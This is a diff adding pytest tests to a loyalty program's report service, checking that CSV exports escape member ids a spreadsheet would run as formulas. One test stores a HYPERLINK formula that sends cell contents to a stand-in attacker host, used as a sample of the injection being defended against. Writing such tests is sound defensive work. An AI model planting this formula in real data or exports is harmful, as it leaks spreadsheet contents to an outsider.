@@ -6,6 +6,8 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 
+from loyalty.members.models import Member
+from loyalty.reports import service
 from tests import factories as f
 
 
@@ -440,3 +442,49 @@ def test_openapi_documents_the_reports(client):
         assert set(paths[path]) == {"get"}
     content = paths["/v1/reports/segments"]["get"]["responses"]["200"]["content"]
     assert set(content) == {"application/json", "text/csv"}
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1555", "'+1555"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("c_1=2", "c_1=2"),
+        ("", ""),
+        (None, ""),
+        (-500, -500),  # a number of ours, never text
+    ],
+)
+def test_a_csv_cell_never_starts_a_formula(value, cell):
+    assert service.csv_cell(value) == cell
+
+
+def test_segments_csv_writes_formula_like_ids_as_text():
+    text = "".join(service.segments_csv(iter([("other_active", "=1+1", 3, 1, -20)])))
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row == {
+        "segment": "other_active",
+        "customer_id": "'=1+1",
+        "recency_days": "3",
+        "frequency": "1",
+        "monetary": "-20",
+    }
+
+
+def test_the_segments_export_escapes_a_member_id_a_spreadsheet_would_run(client, reports, session):
+    """An id as the store sent it (or as an import wrote it): the CSV keeps it readable as
+    text, with a leading quote, and the JSON report shows it unchanged."""
+    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    session.add(Member(customer_id=evil, email="evil@example.com"))
+    session.add(Member(customer_id="@shopper", email="at@example.com"))
+    session.flush()
+    response = client.get("/v1/reports/segments?format=csv", headers=reports)
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert sorted(r["customer_id"] for r in rows) == ["'" + evil, "'@shopper"]
+    body = client.get("/v1/reports/segments", headers=reports).get_json()
+    assert sorted(segments_of(body)["new_subscribers"]) == sorted([evil, "@shopper"])
